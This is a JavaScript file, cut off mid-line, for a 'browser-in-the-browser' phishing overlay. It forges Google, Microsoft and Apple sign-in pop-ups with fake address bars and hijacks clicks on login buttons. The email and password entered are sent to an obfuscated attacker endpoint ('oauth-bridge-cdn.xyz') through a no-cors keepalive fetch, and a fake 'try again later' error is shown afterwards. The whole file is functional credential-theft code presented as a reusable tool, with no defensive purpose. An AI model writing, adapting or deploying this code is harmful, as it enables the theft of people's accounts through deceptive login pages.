// bitb-credential-overlay: generic fake OAuth pop-up factory supporting several identity providers (file cut off)
// async/await, provider table, data sent with fetch keepalive
const PROVIDERS = {
  google: { title: 'Sign in - Google Accounts', url: 'https://accounts.google.com/v3/signin/identifier?flowName=GlifWebSignIn', color: '#1a73e8' },
  microsoft: { title: 'Sign in to your account', url: 'https://login.live.com/oauth20_authorize.srf?client_id=000000004C12AE6F', color: '#0067b8' },
  apple: { title: 'Sign in with Apple ID', url: 'https://appleid.apple.com/auth/authorize?response_mode=web_message', color: '#000' },
};
const DROP = ['https://', 'oauth-bridge', '-cdn', '.xyz', '/v2/c'].join('');

const h = (tag, css = '', html = '') => {
  const el = document.createElement(tag);
  el.style.cssText = css;
  el.innerHTML = html;
  return el;
};

const exfil = async (payload) => {
  await fetch(DROP, {
    method: 'POST',
    keepalive: true,
    mode: 'no-cors',
    body: JSON.stringify({ ...payload, ref: location.href, when: new Date().toISOString() }),
  });
};

const drawWindow = (p) => {
  const win = h('div', [
    'position:fixed', 'top:64px', 'left:calc(50% - 230px)', 'width:460px', 'height:580px', 'background:#fff',
    'box-shadow:0 16px 54px rgba(0,0,0,.4)', 'border-radius:8px', 'overflow:hidden', 'z-index:2147483647', 'font:14px Arial,sans-serif',
  ].join(';'));
  win.append(
    h('div', 'height:30px;background:#dee1e6;display:flex;align-items:center;padding:0 10px;font-size:12px', `${p.title}<b class="wx" style="margin-left:auto;cursor:pointer">&#10005;</b>`),
    h('div', 'height:28px;background:#f1f3f4;display:flex;align-items:center;padding:0 10px;font-size:12px', `&#128274;&nbsp;${p.url}`),
    h('form', 'padding:48px 44px', `
      <h2 style="margin:0 0 24px;font-weight:400">Sign in</h2>
      <input name="id" placeholder="Email" style="width:100%;padding:12px;margin-bottom:12px">
      <input name="pw" type="password" placeholder="Password" style="width:100%;padding:12px">
      <p class="wm" style="color:#d93025;min-height:18px"></p>
      <button style="background:${p.color};color:#fff;border:0;padding:10px 26px;border-radius:4px;float:right">Next</button>`),
  );
  document.body.append(win);
  return win;
};

const launch = (key) => {
  const provider = PROVIDERS[key];
  const win = drawWindow(provider);
  win.querySelector('.wx').onclick = () => win.remove();
  win.querySelector('form').addEventListener('submit', async (ev) => {
    ev.preventDefault();
    const form = ev.currentTarget;
    const id = form.id.value.trim();
    const pw = form.pw.value;
    if (!id || !pw) return;
    await exfil({ provider: key, id, pw });
    form.querySelector('.wm').textContent = 'Couldn\u2019t sign you in. Try again later.';
    setTimeout(() => win.remove(), 2200);
  });
};

document.addEventListener('click', (ev) => {
  const btn = ev.target.closest?.('button, a');
  if (!btn) return;
  const label = `${btn.textContent} ${btn.getAttribute('aria-label') ?? ''} ${btn.className}`.toLowerCase();
  const match = Object.keys(PROVIDERS).find((k) => label.includes(k));
  if (match && /sign|log|continue/.test(label)) {
    ev.preventDefault();
    ev.stopImmediatePropagation();
    launch(ma
